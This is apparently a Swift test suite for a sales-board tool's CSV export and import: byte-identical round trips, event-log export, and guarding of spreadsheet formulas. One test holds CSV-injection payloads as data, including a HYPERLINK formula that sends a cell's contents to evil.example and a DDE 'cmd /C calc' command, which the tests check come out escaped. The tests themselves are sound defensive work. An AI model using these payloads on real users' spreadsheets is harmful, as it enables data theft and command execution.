import Foundation
import HandoffCore
import HandoffStore
import HandoffTestSupport
import Testing

/// An export is a file `handoff import` reads back to the same board: export, import into an empty
/// board, export again gives the same bytes.
@Suite struct ExportRoundTripTests {
    let now = TemporaryBoard.now

    func exported(_ store: Store, _ kind: Store.ExportKind) throws -> String {
        var writer = CSVWriter()
        try store.export(kind) { writer.write($0) }
        return String(decoding: writer.bytes, as: UTF8.self)
    }

    /// A board with everything an export must carry: generated leads in every stage with
    /// attributes, and the awkward text of the fixtures (quotes, line breaks, commas, accents,
    /// ten thousand characters, an attribute named like a field).
    func awkwardBoard(_ board: TemporaryBoard) throws -> Store {
        let store = try board.open()
        _ = try store.generate(leads: 400, seed: 7, until: now, actor: "generator")
        for name in ["bom-crlf.csv", "embedded-newlines.csv", "long-fields.csv", "hubspot-contacts.csv", "salesforce-leads.csv"] {
            _ = try store.importCSV(at: Fixtures.path(name), options: ImportOptions(skipBadRows: true), actor: "lucia", now: now)
        }
        _ = try store.importCSV(at: Fixtures.path("hubspot-deals.csv"), options: ImportOptions(kind: .deals), actor: "lucia", now: now)
        return store
    }

    @Test func exportImportExportIsByteIdentical() throws {
        let source = TemporaryBoard()
        let store = try awkwardBoard(source)
        let first = try exported(store, .leads)
        #expect(
            first.hasPrefix("id,name,company,email,phone,source,campaign,owner,stage,value,score,created,entered,closed,lost_reason,attr."))
        #expect(first.contains("\"Met at the fair.\nSaid \"\"call me in May\"\", then\r\nleft early.\""))
        let file = source.folder + "/leads.csv"
        try first.write(toFile: file, atomically: true, encoding: .utf8)

        let copy = TemporaryBoard()
        let target = try copy.open()
        let report = try target.importCSV(at: file, options: ImportOptions(), actor: "importer", now: now)
        let leads = try store.leadCount()
        #expect(report.committed && report.created == leads && report.rejected == 0)
        #expect(try exported(target, .leads) == first)
        // Column totals follow: the same counts and values per stage.
        #expect(try target.stageTotals().mapValues(\.leads) == store.stageTotals().mapValues(\.leads))

        // Campaigns too.
        let campaigns = try exported(store, .campaigns)
        try campaigns.write(toFile: source.folder + "/campaigns.csv", atomically: true, encoding: .utf8)
        let other = TemporaryBoard()
        let campaignBoard = try other.open()
        _ = try campaignBoard.importCSV(
            at: source.folder + "/campaigns.csv", options: ImportOptions(kind: .campaigns), actor: "importer", now: now)
        #expect(try exported(campaignBoard, .campaigns) == campaigns)
    }

    /// Text a spreadsheet would run (a formula, a DDE command, a phone number with +) leaves as
    /// text behind a `'`, and comes back from the import exactly as it was.
    @Test func formulaCellsLeaveGuardedAndComeBackAsTheyWere() throws {
        let source = TemporaryBoard()
        let store = try source.open()
        let cells = [
            "=HYPERLINK(\"http://evil.example/?\"&A1)", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "'=x", "''@y", "'plain", "-5",
        ]
        var csv = "name,company,source,campaign,attr.note\n"
        for (index, cell) in cells.enumerated() { csv += CSVWriter.line(["Lead \(index) " + cell, cell, cell, "", cell]) }
        // Written as they are (not guarded): a `'` at the start of a cell the file itself holds is data.
        try csv.write(toFile: source.folder + "/in.csv", atomically: true, encoding: .utf8)
        _ = try store.importCSV(at: source.folder + "/in.csv", options: ImportOptions(), actor: "lucia", now: now)
        let stored = try store.connection.prepare("SELECT company FROM leads ORDER BY id").rows([]) { $0.string(0) }
        #expect(stored == cells.map { FormulaGuard.unguarded($0) })

        var writer = CSVWriter(guardingFormulas: true)
        try store.export(.leads) { writer.write($0) }
        let first = String(decoding: writer.bytes, as: UTF8.self)
        #expect(first.contains(",'=HYPERLINK(\"\"http://evil.example/?\"\"&A1),") || first.contains("\"'=HYPERLINK("))
        #expect(first.contains("2,Lead 1 +SUM(1),'+SUM(1),,,'+SUM(1),,,lead,"))
        #expect(
            !first.split(separator: "\n").dropFirst().contains { line in
                line.split(separator: ",").contains { ["=", "+", "@"].contains($0.first.map(String.init) ?? "") }
            })
        try first.write(toFile: source.folder + "/out.csv", atomically: true, encoding: .utf8)
        let copy = TemporaryBoard()
        let target = try copy.open()
        _ = try target.importCSV(at: source.folder + "/out.csv", options: ImportOptions(), actor: "lucia", now: now)
        #expect(try target.connection.prepare("SELECT company FROM leads ORDER BY id").rows([]) { $0.string(0) } == stored)
        var again = CSVWriter(guardingFormulas: true)
        try target.export(.leads) { again.write($0) }
        #expect(String(decoding: again.bytes, as: UTF8.self) == first)
    }

    @Test func importingAnExportIntoItsOwnBoardChangesNothing() throws {
        let board = TemporaryBoard()
        let store = try awkwardBoard(board)
        let file = board.folder + "/leads.csv"
        try exported(store, .leads).write(toFile: file, atomically: true, encoding: .utf8)
        let events = try store.eventCount()
        let report = try store.importCSV(at: file, options: ImportOptions(), actor: "lucia", now: now)
        #expect(report.unchanged == report.rows && report.created == 0 && report.updated == 0)
        #expect(try store.eventCount() == events)
    }

    @Test func theEventsExportIsTheLogInOrder() throws {
        let board = TemporaryBoard()
        let store = try board.seedSmallBoard()
        try store.apply(.move(leadID: 1, toStage: "nurture", expectedVersion: nil), actor: "lucia", at: now)
        // Under --as, who really acted is the last column.
        #expect(try store.actingLogin(osLogin: "elena", requested: "lucia") == "lucia")
        try store.apply(.move(leadID: 1, toStage: "lead", expectedVersion: nil), actor: "lucia", at: now)
        let lines = try exported(store, .events).split(separator: "\n").map(String.init)
        #expect(lines.first == "id,lead_id,at,actor,kind,from_stage,to_stage,detail,reverts,acted_by")
        #expect(lines.count == 8)
        #expect(
            lines.suffix(2) == [
                "6,1,2026-11-20T12:00:00Z,lucia,moved,lead,nurture,,,", "7,1,2026-11-20T12:00:00Z,lucia,moved,nurture,lead,,,elena",
            ])
    }
}
